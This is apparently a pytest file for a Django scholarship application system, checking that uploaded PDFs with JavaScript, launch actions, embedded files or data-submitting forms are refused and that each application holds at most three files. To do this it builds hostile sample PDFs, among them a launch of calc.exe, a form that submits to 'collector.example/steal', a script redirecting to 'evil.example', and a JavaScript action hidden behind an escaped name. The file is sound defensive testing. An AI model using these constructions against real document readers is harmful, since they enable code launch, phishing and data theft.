"""Application files are real PDF documents that only show pages, and an application carries three at most.

The PDFs are built with pypdf itself: a plain page, then the same page with JavaScript (an open action and the
document's JavaScript name tree), a launch action, an embedded file, a file attachment annotation, a form that
submits data; and an HTML page that merely starts with ``%PDF-``. Each is tried through the officer's page, the
API and the service: refused next to the field, no row saved, no file left on disk.
"""

import contextlib
import io
import threading

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject
from rest_framework.test import APIClient

from cooperation.pdf import inspect_pdf
from cooperation.refusals import refusal_codes
from cooperation.roles import Role
from programs.scholarships import services
from programs.scholarships.models import Application, Attachment
from programs.scholarships.services import ScholarshipRefusal as Code
from tests.api_errors import error_fields
from tests.factories import OrganisationFactory, UserFactory
from tests.programs.scholarships.factories import PDF_BYTES, ApplicationFactory, AttachmentFactory, CallFactory, pdf

pytestmark = pytest.mark.django_db


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _page() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return writer


def _name(value: str) -> NameObject:
    return NameObject(value)


def with_open_action_javascript() -> bytes:
    writer = _page()
    writer.add_open_action(JavaScript("app.alert('hello');"))
    return _written(writer)


def with_javascript_name_tree() -> bytes:
    writer = _page()
    action = DictionaryObject({_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("app.alert(1)")})
    names = DictionaryObject({_name("/Names"): ArrayObject([TextStringObject("greeting"), writer._add_object(action)])})
    writer._root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): writer._add_object(names)})
    return _written(writer)


def with_launch_action() -> bytes:
    writer = _page()
    writer._root_object[_name("/OpenAction")] = DictionaryObject(
        {_name("/S"): _name("/Launch"), _name("/F"): TextStringObject("C:\\Windows\\System32\\calc.exe")}
    )
    return _written(writer)


def with_page_javascript_behind_additional_actions() -> bytes:
    writer = _page()
    action = DictionaryObject({_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("this.print()")})
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): action})
    return _written(writer)


def with_embedded_file() -> bytes:
    writer = _page()
    writer.add_attachment("payload.exe", b"MZ not really a program")
    return _written(writer)


def with_file_attachment_annotation() -> bytes:
    writer = _page()
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/FileAttachment"),
            _name("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(20), FloatObject(20)]),
        }
    )
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _written(writer)


def with_submit_form() -> bytes:
    writer = _page()
    writer._root_object[_name("/OpenAction")] = DictionaryObject(
        {_name("/S"): _name("/SubmitForm"), _name("/F"): TextStringObject("https://collector.example/steal")}
    )
    return _written(writer)


def with_escaped_javascript_name() -> bytes:
    """``/J#61vaScript`` is ``/JavaScript`` to every PDF reader."""
    plain = _written(_page())
    return plain.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")


def encrypted() -> bytes:
    writer = _page()
    writer.encrypt("secret")
    return _written(writer)


HTML_IMPOSTOR = b"%PDF-1.7\n<html><body><script>document.location='https://evil.example'</script></body></html>\n"

REFUSED = {
    "javascript in the open action": (with_open_action_javascript, "contains JavaScript"),
    "javascript name tree": (with_javascript_name_tree, "contains JavaScript"),
    "javascript behind a page's additional actions": (with_page_javascript_behind_additional_actions, "JavaScript"),
    "javascript behind an escaped name": (with_escaped_javascript_name, "contains JavaScript"),
    "launch action": (with_launch_action, "opens programs or other files"),
    "embedded file": (with_embedded_file, "carries other files"),
    "file attachment annotation": (with_file_attachment_annotation, "carries other files"),
    "form that submits data": (with_submit_form, "sends or loads data"),
    "html that starts with %PDF-": (lambda: HTML_IMPOSTOR, "cannot be read as a PDF"),
    "encrypted": (encrypted, "protected by a password"),
}


def upload(content: bytes, name="evil.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def files_on_disk(settings) -> set[str]:
    return {path.name for path in settings.PRIVATE_MEDIA_ROOT.rglob("*") if path.is_file()}


@pytest.fixture
def applicant(partner_org):
    return ApplicationFactory(call=CallFactory(host=partner_org))


def test_a_plain_pdf_is_accepted():
    assert inspect_pdf(io.BytesIO(PDF_BYTES)) is None


@pytest.mark.parametrize("kind", sorted(REFUSED))
def test_dangerous_or_fake_pdfs_are_refused_by_the_service(kind, officer, applicant, settings):
    build, words = REFUSED[kind]
    before = files_on_disk(settings)
    with pytest.raises(ValidationError) as refused:
        services.attachment_add(application=applicant, uploaded_by=officer, file=upload(build(), "evil.pdf"))
    assert words in " ".join(refused.value.message_dict["file"])
    assert "evil.pdf" in " ".join(refused.value.message_dict["file"])
    assert not applicant.attachments.exists()
    assert files_on_disk(settings) == before


@pytest.mark.parametrize(
    "kind", ["javascript in the open action", "launch action", "embedded file", "html that starts with %PDF-"]
)
def test_the_officers_page_shows_the_refusal_next_to_the_file(kind, client, officer, applicant, settings):
    build, words = REFUSED[kind]
    client.force_login(officer)
    before = files_on_disk(settings)
    url = reverse("scholarships:application_attachment_add", args=[applicant.pk])
    response = client.post(url, {"attachment_add-file": upload(build())})
    assert words in response.content.decode()
    assert not applicant.attachments.exists()
    assert files_on_disk(settings) == before


@pytest.mark.parametrize(
    "kind", ["javascript name tree", "file attachment annotation", "form that submits data", "encrypted"]
)
def test_the_api_refuses_with_a_field_error(kind, officer, applicant, settings):
    build, words = REFUSED[kind]
    api = APIClient()
    api.force_authenticate(officer)
    before = files_on_disk(settings)
    url = f"/api/v1/scholarship-applications/{applicant.pk}/attachments/"
    response = api.post(url, {"file": upload(build())}, format="multipart")
    assert response.status_code == 400
    assert words in " ".join(error_fields(response)["file"])
    assert not applicant.attachments.exists()
    assert files_on_disk(settings) == before


def test_recording_an_application_with_a_dangerous_file_saves_nothing(client, officer, partner_org, settings):
    call = CallFactory(host=partner_org)
    client.force_login(officer)
    before = files_on_disk(settings)
    data = {
        "applicant_name": "Maria da Costa",
        "email": "maria@mail.example",
        "nationality": call.eligible_countries.first().pk,
        "gender": "female",
        "date_of_birth": "1999-02-03",
        "current_institution": "UNTL",
        "degree": "BSc",
        "field_of_study": (call.fields_of_study or ["Hydrology"])[0],
        "motivation": "Water.",
        "attachments": [pdf("cv.pdf"), upload(with_launch_action(), "letter.pdf")],
    }
    response = client.post(reverse("scholarships:call_application_create", args=[call.pk]), data)
    assert "letter.pdf contains an action that opens programs" in response.content.decode()
    assert not Application.objects.exists()
    assert files_on_disk(settings) == before


# --- at most three files ------------------------------------------------------------------------------------------


def test_the_api_cannot_add_a_fourth_file(officer, applicant, settings):
    for number in range(2):
        AttachmentFactory(application=applicant, original_name=f"{number}.pdf")
    api = APIClient()
    api.force_authenticate(officer)
    url = f"/api/v1/scholarship-applications/{applicant.pk}/attachments/"
    assert api.post(url, {"file": pdf("third.pdf")}, format="multipart").status_code == 201
    before = files_on_disk(settings)
    response = api.post(url, {"file": pdf("fourth.pdf")}, format="multipart")
    assert response.status_code == 400
    assert "at most 3 files" in " ".join(error_fields(response)["file"])
    assert applicant.attachments.count() == 3
    assert files_on_disk(settings) == before


def test_the_page_and_the_service_share_the_limit(client, officer, applicant):
    for number in range(3):
        AttachmentFactory(application=applicant, original_name=f"{number}.pdf")
    client.force_login(officer)
    url = reverse("scholarships:application_attachment_add", args=[applicant.pk])
    response = client.post(url, {"attachment_add-file": pdf("fourth.pdf")})
    assert "An application carries at most 3 files." in response.content.decode()
    with pytest.raises(ValidationError) as refused:
        services.attachment_add(application=applicant, uploaded_by=officer, file=pdf("fourth.pdf"))
    assert Code.INVALID_FILE in refusal_codes(refused.value)
    assert applicant.attachments.count() == 3


@pytest.mark.django_db(transaction=True)
def test_two_uploads_at_once_cannot_make_four(reference_data_db, monkeypatch):
    """On PostgreSQL both uploads run at once and the application's row lock queues the second behind the first;
    SQLite has one writer at a time, so there they run one after the other. Either way: three files, not four."""
    officer = UserFactory(role=Role.OFFICER)
    applicant = ApplicationFactory(call=CallFactory(host=OrganisationFactory()))
    for number in range(2):
        AttachmentFactory(application=applicant, original_name=f"{number}.pdf")
    concurrent = connection.vendor == "postgresql"
    # Two seconds at most: with the lock, the first upload waits here in vain while the second waits for the lock.
    arrived = threading.Barrier(2, timeout=2) if concurrent else None
    original = services.applications._attachment_errors

    def counted_then_waiting(files, *, already=0):
        problems = original(files, already=already)
        if arrived is not None:
            # Both have counted, unless the row lock held the other upload before it could (as it should).
            with contextlib.suppress(threading.BrokenBarrierError):
                arrived.wait()
        return problems

    monkeypatch.setattr(services.applications, "_attachment_errors", counted_then_waiting)
    results = []

    def add(name):
        try:
            results.append(services.attachment_add(application=applicant, uploaded_by=officer, file=pdf(name)))
        except ValidationError as error:
            results.append(error)
        finally:
            connection.close()

    threads = [threading.Thread(target=add, args=(f"late-{n}.pdf",)) for n in range(2)]
    for thread in threads:
        thread.start()
        if not concurrent:
            thread.join()
    for thread in threads:
        thread.join(timeout=30)
    assert Attachment.objects.filter(application=applicant).count() == 3
    assert sum(isinstance(result, ValidationError) for result in results) == 1
